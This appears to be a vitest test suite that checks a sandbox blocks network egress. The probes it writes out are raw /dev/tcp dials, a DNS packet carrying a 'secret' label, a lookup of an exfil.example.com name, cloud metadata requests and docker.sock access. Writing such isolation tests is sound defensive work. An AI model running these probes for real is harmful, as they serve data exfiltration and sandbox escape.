import { setTimeout as sleep } from 'node:timers/promises'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type HostListeners, listenOnHost } from './host-listeners.ts'
import { pythonSaid, type Scene, said } from './scene.ts'

const dial = (host: string, port: number | string) =>
  `timeout 3 bash -c 'exec 3<>/dev/tcp/${host}/${port} && echo REACHED; timeout 1 cat <&3'`

/** A DNS query for a name that carries a secret, to whichever server is listening at that address. */
const query = (host: string, port: number) => `
import socket
packet = bytes.fromhex('123401000001000000000000') + b'\\x06secret\\x07example\\0' + bytes.fromhex('00010001')
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(packet, ('${host}', ${port}))
    print('SENT')
except OSError as refusal:
    print(refusal)
`

/** Whether the kernel gives a socket of this kind at all. */
const openSocket = (kind: string) => `
import socket
try:
    ${kind}
    print('OPENED')
except OSError as refusal:
    print(refusal)
`

export function describeWaysOut(scene: () => Scene): void {
  describe('the network', () => {
    let host: HostListeners
    beforeAll(async () => {
      host = await listenOnHost()
    })
    afterAll(() => host?.[Symbol.asyncDispose]())

    test('of the host is out of reach, by every address it has', async () => {
      expect(host.addresses.length).toBeGreaterThan(0)
      for (const address of host.addresses) {
        expect(await scene().plain.said(dial(address, host.port))).toContain('HELLO FROM THE HOST')
        host.heard()

        expect(await said(scene().box, dial(address, host.port))).toMatch(/unreachable/)
      }
      expect(await said(scene().box, dial('127.0.0.1', host.port))).toMatch(/refused/)
      expect(host.heard()).toEqual([])
    })

    test('lets no DNS query and no datagram out', async () => {
      for (const address of host.addresses) {
        expect(await scene().plain.pythonSaid(query(address, host.port))).toContain('SENT')
        await sleep(100)
        expect(host.heard()).toHaveLength(1)

        expect(await pythonSaid(scene().box, query(address, host.port))).toMatch(/unreachable/)
      }
      await sleep(100)
      expect(host.heard()).toEqual([])
    })

    test('resolves no name, and says so quickly', async () => {
      const started = performance.now()
      const output = await said(
        scene().box,
        'getent hosts secret.exfil.example.com || echo NOTHING',
      )

      expect(output).toBe('NOTHING\n')
      expect(performance.now() - started).toBeLessThan(8000)
      expect(await said(scene().box, 'grep -v "^#" /etc/resolv.conf')).not.toMatch(
        /nameserver (?!127\.0\.0\.1)/,
      )
    })

    test('has no cloud metadata', async () => {
      expect(await said(scene().box, dial('169.254.169.254', 80))).toMatch(/unreachable/)
      const answer = await said(
        scene().box,
        'curl -sS -m 5 http://169.254.169.254/latest/meta-data/',
      )
      expect(answer).toContain('blocked_by_policy')
    })

    test.each([
      ['raw', 'socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)'],
      ['packet', 'socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)'],
    ])('gives no %s socket', async (_kind, open) => {
      expect(await scene().plain.pythonSaid(openSocket(open))).toContain('OPENED')

      expect(await pythonSaid(scene().box, openSocket(open))).toMatch(/not permitted/)
    })

    test('has nothing but loopback, and no socket of anyone else’s', async () => {
      const box = scene().box
      expect(await said(box, 'ls /sys/class/net; tail -n +2 /proc/net/route')).toBe('lo\n')
      expect(await said(box, 'tail -n +2 /proc/net/unix | grep @')).toBe('')
    })

    test('of the orchestrator is out of reach: no control port, no gateway, no engine', async () => {
      const { url, gatewayUrl } = (await scene().stuntdouble.orchestrator()) ?? {}
      for (const origin of [url, gatewayUrl]) {
        const { hostname, port } = new URL(origin ?? '')
        expect(await scene().plainOnHost.said(dial(hostname, port))).toContain('REACHED')

        expect(await said(scene().box, dial(hostname, port))).toMatch(/refused/)
      }
      const ping = 'curl -s -m 3 --unix-socket /var/run/docker.sock http://engine/_ping'
      expect(await scene().plain.said(ping)).toBe('OK')

      expect(await said(scene().box, `${ping} || echo NONE`)).toBe('NONE\n')
      expect(await said(scene().box, 'find / -xdev -type s 2>/dev/null')).toBe('')
    })
  })
}
